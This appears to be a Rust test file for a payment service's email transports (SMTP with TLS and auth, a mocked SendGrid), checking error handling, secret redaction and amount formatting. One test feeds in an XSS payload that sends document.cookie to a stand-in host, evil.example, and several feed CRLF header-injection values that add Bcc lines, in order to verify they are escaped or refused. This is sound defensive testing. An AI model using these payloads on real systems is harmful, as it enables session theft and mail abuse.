//! Email transports against real counterparts: a real SMTP server (aiosmtpd) receives a receipt
//! (plain to loopback, STARTTLS with AUTH, implicit TLS, both with a test certificate) and its
//! refusals map to Transient/Permanent; SendGrid's API played by wiremock sees the bearer key and
//! the JSON mail; header and HTML injection are refused or escaped on the way out. Amounts are
//! checked against Node's Intl.NumberFormat where Stripe and ISO 4217 agree on the exponent.

use std::sync::Arc;

use serde_json::{json, Value};
use tollgate::config::{Config, Sources};
use tollgate::notify::email::{mailer_from_config, render, MailError, MailSettings, Mailer, OutgoingMail};
use wiremock::matchers::{header, method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

use crate::helpers::smtp::{SmtpServer, TestCertificate};
use crate::helpers::{in_ci, skip};

const FROM: &str = "Example Shop <receipts@shop.example>";

fn config(vars: &[(&str, &str)]) -> Config {
    let mut env: Vec<(String, String)> = vec![
        ("TOLLGATE_MAIL_FROM".into(), FROM.into()),
        ("TOLLGATE_MAIL_REPLY_TO".into(), "support@shop.example".into()),
        ("TOLLGATE_PRODUCT_NAME".into(), "Example Shop".into()),
        ("TOLLGATE_PUBLIC_URL".into(), "https://pay.shop.example".into()),
    ];
    env.extend(vars.iter().map(|(k, v)| (k.to_string(), v.to_string())));
    Config::load(&Sources { env: env.into_iter().collect(), ..Default::default() }).unwrap()
}

fn mailer(vars: &[(&str, &str)]) -> Arc<dyn Mailer> {
    mailer_from_config(&config(vars))
}

fn receipt(product: &str) -> OutgoingMail {
    let data = json!({"to": "buyer@example.com", "product": product, "amount": 123456, "currency": "usd",
                      "order_id": "ord_42", "paid_at": "2026-12-01T09:24:00Z"});
    render("receipt", &data, &MailSettings::from_config(&config(&[]))).expect("a receipt")
}

fn smtp_plain(server: &SmtpServer) -> String {
    format!("smtp://127.0.0.1:{}", server.port)
}

#[tokio::test]
async fn a_real_smtp_server_receives_the_receipt_with_product_and_amount_in_text_and_html() {
    let Some(server) = SmtpServer::start("email::a_real_smtp_server_receives_the_receipt", &[]) else { return };
    let url = smtp_plain(&server);
    let mailer = mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &url)]);
    mailer.send(&receipt("Pro plan")).await.unwrap();

    let received = server.received();
    assert_eq!(received.len(), 1, "{received:?}");
    let m = &received[0];
    assert_eq!(m["mail_from"], "receipts@shop.example");
    assert_eq!(m["rcpt_tos"], json!(["buyer@example.com"]));
    assert_eq!(m["content_type"], "multipart/alternative");
    assert_eq!(m["headers"]["subject"], "Your receipt from Example Shop: Pro plan");
    assert_eq!(m["headers"]["from"], FROM);
    assert_eq!(m["headers"]["to"], "buyer@example.com");
    assert_eq!(m["headers"]["reply-to"], "support@shop.example");
    assert!(m["headers"]["message-id"].as_str().unwrap().ends_with("@shop.example>"), "{m}");
    for part in ["text", "html"] {
        let body = m[part].as_str().unwrap_or_else(|| panic!("no {part} part: {m}"));
        for expected in ["Pro plan", "1,234.56 USD", "ord_42", "2026-12-01 09:24 UTC"] {
            assert!(body.contains(expected), "{expected} in the {part} part: {body}");
        }
    }
    assert!(m["html"].as_str().unwrap().contains("<table"), "the HTML part is HTML");

    // Beyond ASCII: encoded by lettre, decoded by Python's email package to the same text.
    mailer.send(&receipt("Café ☕ Größe L")).await.unwrap();
    let m = &server.received()[1];
    assert_eq!(m["headers"]["subject"], "Your receipt from Example Shop: Café ☕ Größe L");
    assert!(m["text"].as_str().unwrap().contains("Café ☕ Größe L") && m["html"].as_str().unwrap().contains("Café ☕ Größe L"));
}

#[tokio::test]
async fn html_injection_in_a_product_name_arrives_escaped() {
    let Some(server) = SmtpServer::start("email::html_injection_in_a_product_name_arrives_escaped", &[]) else { return };
    let url = smtp_plain(&server);
    let attack = "Pro <script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>";
    mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &url)]).send(&receipt(attack)).await.unwrap();
    let m = &server.received()[0];
    let html = m["html"].as_str().unwrap();
    assert!(!html.contains("<script") && !html.contains("<img"), "{html}");
    assert!(html.contains("Pro &lt;script&gt;fetch(&#39;https://evil.example/&#39;+document.cookie)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"));
    assert!(m["text"].as_str().unwrap().contains(attack), "the text part shows the name as typed");
}

#[tokio::test]
async fn starttls_with_auth_and_implicit_tls_deliver_to_a_server_with_a_test_certificate() {
    let cert = TestCertificate::generate();
    let ca = cert.cert.to_string_lossy().into_owned();
    let mut args = cert.args();
    args.extend(["--tls".into(), "starttls".into(), "--auth".into(), "mailer:s3cret p@ss".into()]);
    let Some(server) = SmtpServer::start("email::starttls_with_auth", &args) else { return };

    let url = format!("smtp+starttls://mailer:s3cret%20p%40ss@127.0.0.1:{}", server.port);
    let tls = mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &url), ("TOLLGATE_SMTP_CA_FILE", &ca)]);
    tls.send(&receipt("Pro plan")).await.unwrap();
    let received = server.received();
    assert_eq!(received.len(), 1);
    assert_eq!((received[0]["tls"].clone(), received[0]["auth_user"].clone()), (json!(true), json!("mailer")));

    // The web roots do not know the test certificate: refused before any mail (or password) goes.
    let untrusted = mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &url)]);
    let err = untrusted.send(&receipt("Pro plan")).await.unwrap_err();
    assert!(err.is_transient(), "{err}");
    // A wrong password (a rotation half done): the server's 535 is the relay's setting, not this
    // mail's fault, so transient: once the password is right, every queued receipt goes.
    let wrong = format!("smtp+starttls://mailer:guess@127.0.0.1:{}", server.port);
    let err = mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &wrong), ("TOLLGATE_SMTP_CA_FILE", &ca)])
        .send(&receipt("Pro plan"))
        .await
        .unwrap_err();
    assert!(matches!(&err, MailError::Transient(why) if why.contains("535")), "{err}");
    assert!(!err.to_string().contains("guess") && !err.to_string().contains("s3cret"), "{err}");
    assert_eq!(server.received().len(), 1, "nothing more was accepted");

    // A certificate the CA file trusts, for another name: hostname verification refuses it.
    let other = TestCertificate::for_names(&["smtp.other.example"]);
    let mut args = other.args();
    args.extend(["--tls".into(), "implicit".into()]);
    let Some(impostor) = SmtpServer::start("email::implicit_tls_wrong_name", &args) else { return };
    let url = format!("smtps://127.0.0.1:{}", impostor.port);
    let other_ca = other.cert.to_string_lossy().into_owned();
    let err = mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &url), ("TOLLGATE_SMTP_CA_FILE", &other_ca)])
        .send(&receipt("Pro plan"))
        .await
        .unwrap_err();
    assert!(err.is_transient() && err.to_string().contains("not valid for name"), "{err}");
    assert!(impostor.received().is_empty());

    let mut args = cert.args();
    args.extend(["--tls".into(), "implicit".into()]);
    let Some(implicit) = SmtpServer::start("email::implicit_tls", &args) else { return };
    let url = format!("smtps://127.0.0.1:{}", implicit.port);
    mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &url), ("TOLLGATE_SMTP_CA_FILE", &ca)])
        .send(&receipt("Pro plan"))
        .await
        .unwrap();
    assert_eq!(implicit.received()[0]["tls"], true);
}

#[tokio::test]
async fn a_server_that_offers_no_starttls_gets_no_mail() {
    // The downgrade: STARTTLS is required, so a server (or a man in the middle) that does not
    // offer it gets nothing, in clear or otherwise. This server would take both: it offers AUTH
    // and accepts it in clear, and takes mail; it only lacks STARTTLS.
    let test = "email::a_server_that_offers_no_starttls_gets_no_mail";
    let args: Vec<String> = ["--tls", "plain", "--auth", "mailer:pw"].map(String::from).to_vec();
    let Some(server) = SmtpServer::start(test, &args) else { return };
    let url = format!("smtp+starttls://mailer:pw@127.0.0.1:{}", server.port);
    let err =
        mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &url)]).send(&receipt("Pro plan")).await.unwrap_err();
    assert!(err.is_transient(), "{err}");
    assert!(server.auth_attempts().is_empty(), "the password was sent in clear: {:?}", server.auth_attempts());
    assert!(server.received().is_empty());
    // The same server in clear, as the URL asks: the password and the mail go (so the refusal
    // above is STARTTLS being required, not a server that takes nothing).
    let plain = format!("smtp://mailer:pw@127.0.0.1:{}", server.port);
    mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &plain)]).send(&receipt("Pro plan")).await.unwrap();
    assert_eq!((server.auth_attempts(), server.received().len()), (vec!["mailer".to_owned()], 1));

    // Without a user: no password to protect, and still no mail in clear.
    let Some(open) = SmtpServer::start(test, &[]) else { return };
    let url = format!("smtp+starttls://127.0.0.1:{}", open.port);
    let err =
        mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &url)]).send(&receipt("Pro plan")).await.unwrap_err();
    assert!(err.is_transient(), "{err}");
    assert!(open.received().is_empty(), "a mail went in clear: {:?}", open.received());
}

#[tokio::test]
async fn smtp_4xx_sender_refusals_and_connection_refused_are_transient_recipient_and_data_5xx_permanent() {
    let test = "email::smtp_4xx_sender_refusals_and_connection_refused_are_transient_recipient_and_data_5xx_permanent";
    let Some(deferring) = SmtpServer::start(test, &["--fail-rcpt".into(), "451 4.3.0 Mailbox busy, try later".into()]) else {
        return;
    };
    let url = smtp_plain(&deferring);
    let err =
        mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &url)]).send(&receipt("Pro")).await.unwrap_err();
    assert!(matches!(&err, MailError::Transient(why) if why.contains("451")), "{err}");

    let Some(refusing) = SmtpServer::start(test, &["--fail-data".into(), "550 5.7.1 Message rejected as spam".into()]) else {
        return;
    };
    let url = smtp_plain(&refusing);
    let err =
        mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &url)]).send(&receipt("Pro")).await.unwrap_err();
    assert!(matches!(&err, MailError::Permanent(why) if why.contains("550")), "{err}");
    assert!(deferring.received().is_empty() && refusing.received().is_empty());

    // No such recipient: this mail will never go.
    let Some(unknown) = SmtpServer::start(test, &["--fail-rcpt".into(), "550 5.1.1 No such user".into()]) else { return };
    let url = smtp_plain(&unknown);
    let err =
        mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &url)]).send(&receipt("Pro")).await.unwrap_err();
    assert!(matches!(&err, MailError::Permanent(why) if why.contains("550")), "{err}");

    // The relay refuses our sender (MAIL FROM), or wants AUTH first: its setting, not this mail.
    for reply in
        ["553 5.7.1 Sender address rejected: not owned by user", "550 5.7.1 Relaying denied", "530 5.7.0 Authentication required"]
    {
        let Some(sender) = SmtpServer::start(test, &["--fail-mail".into(), reply.into()]) else { return };
        let url = smtp_plain(&sender);
        let err =
            mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &url)]).send(&receipt("Pro")).await.unwrap_err();
        assert!(matches!(&err, MailError::Transient(why) if why.contains(&reply[..3])), "{reply}: {err}");
        assert!(sender.received().is_empty());
    }

    // A server that defers once, then accepts: the next attempt delivers, once.
    let Some(flaky) = SmtpServer::start(test, &["--fail-first".into(), "1".into()]) else { return };
    let url = smtp_plain(&flaky);
    let m = mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &url)]);
    assert!(m.send(&receipt("Pro")).await.unwrap_err().is_transient());
    m.send(&receipt("Pro")).await.unwrap();
    assert_eq!(flaky.received().len(), 1);

    // Nobody listens: connection refused.
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let url = format!("smtp://127.0.0.1:{port}");
    let err =
        mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &url)]).send(&receipt("Pro")).await.unwrap_err();
    assert!(err.is_transient(), "{err}");
}

#[tokio::test]
async fn cr_or_lf_in_a_subject_or_recipient_is_refused_by_every_transport() {
    let sendgrid = MockServer::start().await;
    Mock::given(method("POST")).respond_with(ResponseTemplate::new(202)).mount(&sendgrid).await;
    let server = SmtpServer::start("email::cr_or_lf_in_a_subject_or_recipient", &[]);
    let smtp_url = server.as_ref().map(smtp_plain);
    let mut transports = vec![
        mailer(&[]),
        mailer(&[("TOLLGATE_MAIL_TRANSPORT", "sendgrid"), ("SENDGRID_API_KEY", "SG.k"), ("SENDGRID_API_BASE", &sendgrid.uri())]),
    ];
    if let Some(url) = &smtp_url {
        transports.push(mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", url)]));
    }
    let good = receipt("Pro");
    for bad in [
        OutgoingMail { subject: "Receipt\r\nBcc: victim@example.com".into(), ..good.clone() },
        OutgoingMail { subject: "Receipt\nX-Injected: 1".into(), ..good.clone() },
        OutgoingMail { to: "buyer@example.com\r\nBcc: victim@example.com".into(), ..good.clone() },
    ] {
        for t in &transports {
            assert!(matches!(t.send(&bad).await, Err(MailError::Permanent(_))), "{bad:?}");
        }
    }
    assert!(sendgrid.received_requests().await.unwrap().is_empty(), "nothing reached SendGrid");
    if let Some(server) = &server {
        assert!(server.received().is_empty(), "nothing reached the SMTP server");
    }
    // And render never makes such a mail from data: a product name with CR/LF gives no mail.
    let data = json!({"to": "b@example.com", "product": "Pro\r\nBcc: victim@example.com", "amount": 1, "currency": "usd",
                      "order_id": "o", "paid_at": 0});
    assert!(render("receipt", &data, &MailSettings::from_config(&config(&[]))).is_none());
}

#[tokio::test]
async fn sendgrid_receives_the_bearer_key_and_the_json_mail() {
    let sendgrid = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/v3/mail/send"))
        .and(header("authorization", "Bearer SG.test-key-123"))
        .and(header("content-type", "application/json"))
        .respond_with(ResponseTemplate::new(202))
        .expect(1)
        .mount(&sendgrid)
        .await;
    let m = mailer(&[
        ("TOLLGATE_MAIL_TRANSPORT", "sendgrid"),
        ("SENDGRID_API_KEY", "SG.test-key-123"),
        ("SENDGRID_API_BASE", &sendgrid.uri()),
    ]);
    let mail = receipt("Pro plan");
    m.send(&mail).await.unwrap();
    let requests = sendgrid.received_requests().await.unwrap();
    let body: Value = serde_json::from_slice(&requests[0].body).unwrap();
    assert_eq!(
        body,
        json!({
            "personalizations": [{"to": [{"email": "buyer@example.com"}]}],
            "from": {"email": "receipts@shop.example", "name": "Example Shop"},
            "reply_to": {"email": "support@shop.example"},
            "subject": "Your receipt from Example Shop: Pro plan",
            "content": [{"type": "text/plain", "value": mail.text}, {"type": "text/html", "value": mail.html}],
            "tracking_settings": {"click_tracking": {"enable": false}, "open_tracking": {"enable": false}},
        })
    );
    assert!(mail.text.contains("1,234.56 USD") && mail.html.contains("Pro plan"));
}

#[tokio::test]
async fn sendgrid_401_403_404_429_and_5xx_are_transient_400_and_413_permanent_and_never_show_the_key() {
    // 401, 403, 404: a rotated key, a key without the scope, a wrong base URL: fixed, every
    // queued mail goes. 400, 413: this mail.
    for (status, transient) in
        [(429, true), (500, true), (503, true), (401, true), (403, true), (404, true), (400, false), (413, false)]
    {
        let sendgrid = MockServer::start().await;
        Mock::given(method("POST"))
            .respond_with(
                ResponseTemplate::new(status).set_body_json(json!({"errors": [{"message": "the reason", "field": null}]})),
            )
            .mount(&sendgrid)
            .await;
        let m = mailer(&[
            ("TOLLGATE_MAIL_TRANSPORT", "sendgrid"),
            ("SENDGRID_API_KEY", "SG.never-shown-key"),
            ("SENDGRID_API_BASE", &sendgrid.uri()),
        ]);
        let err = m.send(&receipt("Pro")).await.unwrap_err();
        assert_eq!(err.is_transient(), transient, "{status}: {err}");
        let text = format!("{err} {err:?}");
        assert!(text.contains(&status.to_string()) && text.contains("the reason"), "{text}");
        assert!(!text.contains("never-shown-key"), "{text}");
    }
    // Nobody listens: transient.
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let base = format!("http://127.0.0.1:{port}");
    let m = mailer(&[("TOLLGATE_MAIL_TRANSPORT", "sendgrid"), ("SENDGRID_API_KEY", "SG.k"), ("SENDGRID_API_BASE", &base)]);
    assert!(m.send(&receipt("Pro")).await.unwrap_err().is_transient());
}

#[tokio::test]
async fn a_sendgrid_error_body_is_read_to_4_kib_at_most() {
    // A valid JSON error whose end lies past 4 KiB: read whole, its message would show; read to
    // 4 KiB, it does not parse and the error names the status only.
    let big = json!({"errors": [{"message": "the reason"}], "padding": "x".repeat(8 << 20)});
    let sendgrid = MockServer::start().await;
    Mock::given(method("POST")).respond_with(ResponseTemplate::new(500).set_body_json(big)).mount(&sendgrid).await;
    let m =
        mailer(&[("TOLLGATE_MAIL_TRANSPORT", "sendgrid"), ("SENDGRID_API_KEY", "SG.k"), ("SENDGRID_API_BASE", &sendgrid.uri())]);
    let err = m.send(&receipt("Pro")).await.unwrap_err();
    assert!(err.is_transient() && err.to_string().contains("500"), "{err}");
    assert!(!err.to_string().contains("the reason"), "the whole body was read: {err}");
}

#[tokio::test]
async fn one_mail_sent_twice_with_its_id_carries_one_message_id() {
    // A retry after a lost 250 is the same message to the recipient's server.
    let Some(server) = SmtpServer::start("email::one_mail_sent_twice_with_its_id_carries_one_message_id", &[]) else {
        return;
    };
    let url = smtp_plain(&server);
    let smtp = mailer(&[("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", &url)]);
    let mail = receipt("Pro plan").with_id("outbox-7f3a");
    smtp.send(&mail).await.unwrap();
    smtp.send(&mail).await.unwrap();
    smtp.send(&receipt("Pro plan")).await.unwrap();
    smtp.send(&receipt("Pro plan")).await.unwrap();
    let ids: Vec<String> = server.received().iter().map(|m| m["headers"]["message-id"].as_str().unwrap().to_owned()).collect();
    assert_eq!(ids[0], "<outbox-7f3a@shop.example>");
    assert_eq!(ids[0], ids[1]);
    assert!(ids[2] != ids[3] && ids[2] != ids[0], "without an id, each attempt its own: {ids:?}");

    let sendgrid = MockServer::start().await;
    Mock::given(method("POST")).respond_with(ResponseTemplate::new(202)).mount(&sendgrid).await;
    let sg =
        mailer(&[("TOLLGATE_MAIL_TRANSPORT", "sendgrid"), ("SENDGRID_API_KEY", "SG.k"), ("SENDGRID_API_BASE", &sendgrid.uri())]);
    sg.send(&mail).await.unwrap();
    sg.send(&mail).await.unwrap();
    sg.send(&receipt("Pro plan")).await.unwrap();
    let bodies: Vec<Value> =
        sendgrid.received_requests().await.unwrap().iter().map(|r| serde_json::from_slice(&r.body).unwrap()).collect();
    assert_eq!(bodies[0]["headers"], json!({"Message-ID": "<outbox-7f3a@shop.example>"}));
    assert_eq!(bodies[0]["headers"], bodies[1]["headers"]);
    assert!(bodies[2].get("headers").is_none(), "without an id SendGrid makes its own: {}", bodies[2]);
}

#[tokio::test]
async fn sendgrid_redirects_are_not_followed_with_the_key() {
    let elsewhere = MockServer::start().await;
    Mock::given(method("POST")).respond_with(ResponseTemplate::new(202)).mount(&elsewhere).await;
    let sendgrid = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(ResponseTemplate::new(307).insert_header("location", format!("{}/v3/mail/send", elsewhere.uri())))
        .mount(&sendgrid)
        .await;
    let m =
        mailer(&[("TOLLGATE_MAIL_TRANSPORT", "sendgrid"), ("SENDGRID_API_KEY", "SG.k"), ("SENDGRID_API_BASE", &sendgrid.uri())]);
    assert!(m.send(&receipt("Pro")).await.is_err());
    assert!(elsewhere.received_requests().await.unwrap().is_empty(), "the key went nowhere else");
}

/// Node's Intl.NumberFormat (ICU/CLDR) formats each amount; where Stripe's exponent is ISO's,
/// ours must print the same digits. IDR is the known difference: CLDR shows it without decimals,
/// Stripe counts it in hundredths (so we show two).
#[test]
fn amounts_match_node_intl_number_format() {
    let node = std::process::Command::new("node").arg("--version").output();
    if !node.is_ok_and(|o| o.status.success()) {
        assert!(!in_ci(), "node is required in CI");
        skip("email::amounts_match_node_intl_number_format", "node not found");
        return;
    }
    let cases: &[(i64, &str)] = &[
        (1999, "usd"),
        (123_456_789, "eur"),
        (5, "gbp"),
        (500, "jpy"),
        (1_000_000, "krw"),
        (99_999_999, "clp"),
        (1500, "kwd"),
        (1_234_567, "bhd"),
        (100, "vnd"),
        (42, "xof"),
        (-250, "usd"),
        (0, "chf"),
    ];
    let script = format!(
        "for (const [a, c] of {}) {{ const d = new Intl.NumberFormat('en-US', {{style: 'currency', currency: c}}).resolvedOptions().maximumFractionDigits; \
         console.log(new Intl.NumberFormat('en-US', {{minimumFractionDigits: d, maximumFractionDigits: d}}).format(`${{a}}E-${{d}}`) + ' ' + c.toUpperCase()); }}",
        serde_json::to_string(&cases.iter().map(|(a, c)| json!([a, c])).collect::<Vec<_>>()).unwrap()
    );
    let out = std::process::Command::new("node").args(["-e", &script]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let node_lines: Vec<String> = String::from_utf8(out.stdout).unwrap().lines().map(str::to_owned).collect();
    let ours: Vec<String> = cases.iter().map(|(a, c)| tollgate::notify::email::format_amount(*a, c)).collect();
    assert_eq!(ours, node_lines);

    let idr = std::process::Command::new("node")
        .args(["-e", "console.log(new Intl.NumberFormat('en-US', {style: 'currency', currency: 'IDR'}).resolvedOptions().maximumFractionDigits)"])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&idr.stdout).trim(), "0", "CLDR: no decimals");
    assert_eq!(tollgate::notify::email::format_amount(1_500_000, "idr"), "15,000.00 IDR", "Stripe: hundredths");

    // Stripe's special cases (docs.stripe.com/currencies, "Special cases"): ISK and UGX became
    // zero-decimal (CLDR: no decimals) but Stripe still takes them in hundredths ("to charge 5
    // ISK, provide an `amount` value of `500`"); HUF and TWD are charged in hundredths.
    for (code, stripe_amount, shown) in [
        ("isk", 500_000, "5,000.00 ISK"),
        ("ugx", 500, "5.00 UGX"),
        ("huf", 599_000, "5,990.00 HUF"),
        ("twd", 80_045, "800.45 TWD"),
    ] {
        assert_eq!(tollgate::notify::email::format_amount(stripe_amount, code), shown, "{code}");
    }
}

/// `check-config` in production: the log transport is a warning, not a refusal; smtp without a
/// From, or in clear to another machine, is refused naming the variable and never the password.
#[test]
fn production_check_config_warns_of_the_log_transport_and_refuses_unsafe_mail() {
    use crate::helpers::binary::{output_text, tollgate};
    let dir = tempfile::tempdir().unwrap();
    let production = vec![
        ("TOLLGATE_ENV", "production"),
        ("TOLLGATE_PUBLIC_URL", "https://pay.example.org"),
        ("TOLLGATE_TRUSTED_PROXIES", "10.0.0.0/8"),
        ("TOLLGATE_BIND", "127.0.0.1:0"),
        ("TOLLGATE_JWT_SECRET", "jwt-5e1f0c9a8b7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f"),
        ("TOLLGATE_LICENCE_KEY", "MC4CAQAwBQYDK2VwBCIEIDATgY59DYsMR8dfBlCFR+Y/7F2uHRFOFUD8x89rrUA4"),
        ("STRIPE_SECRET_KEY", "sk_live_51H8qwertyuiopasdfghjklzxcvbnm0123456789QWERTY"),
        ("STRIPE_WEBHOOK_SECRET", "whsec_3f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a"),
    ];
    let out = tollgate(dir.path(), &production).arg("check-config").output().unwrap();
    let text = output_text(&out);
    assert!(out.status.success(), "{text}");
    assert!(text.contains("warning: TOLLGATE_MAIL_TRANSPORT is log") && text.contains("verdict: ok"), "{text}");

    let mut env = production.clone();
    env.extend([("TOLLGATE_MAIL_TRANSPORT", "smtp"), ("TOLLGATE_SMTP_URL", "smtp://mailer:relay-password-123@mail.example.com")]);
    let out = tollgate(dir.path(), &env).arg("check-config").output().unwrap();
    let text = output_text(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("TOLLGATE_MAIL_FROM is missing") && text.contains("TOLLGATE_SMTP_URL is plain smtp://"), "{text}");
    assert!(!text.contains("relay-password-123") && !text.contains("TOLLGATE_MAIL_TRANSPORT is log"), "{text}");

    env.retain(|(k, _)| *k != "TOLLGATE_SMTP_URL");
    env.extend([("TOLLGATE_SMTP_URL", "smtps://mailer:relay-password-123@mail.example.com"), ("TOLLGATE_MAIL_FROM", FROM)]);
    let out = tollgate(dir.path(), &env).arg("check-config").output().unwrap();
    let text = output_text(&out);
    assert!(out.status.success() && text.contains("verdict: ok") && !text.contains("relay-password-123"), "{text}");

    // .env.example's placeholder, copied as it is: refused, and not echoed.
    env.retain(|(k, _)| *k != "TOLLGATE_SMTP_URL");
    env.push(("TOLLGATE_SMTP_URL", "smtps://mailer:replace_me_with_the_relay_password@smtp.example.com"));
    let out = tollgate(dir.path(), &env).arg("check-config").output().unwrap();
    let text = output_text(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("the password in TOLLGATE_SMTP_URL is a known placeholder"), "{text}");
    assert!(!text.contains("replace_me_with"), "{text}");
}
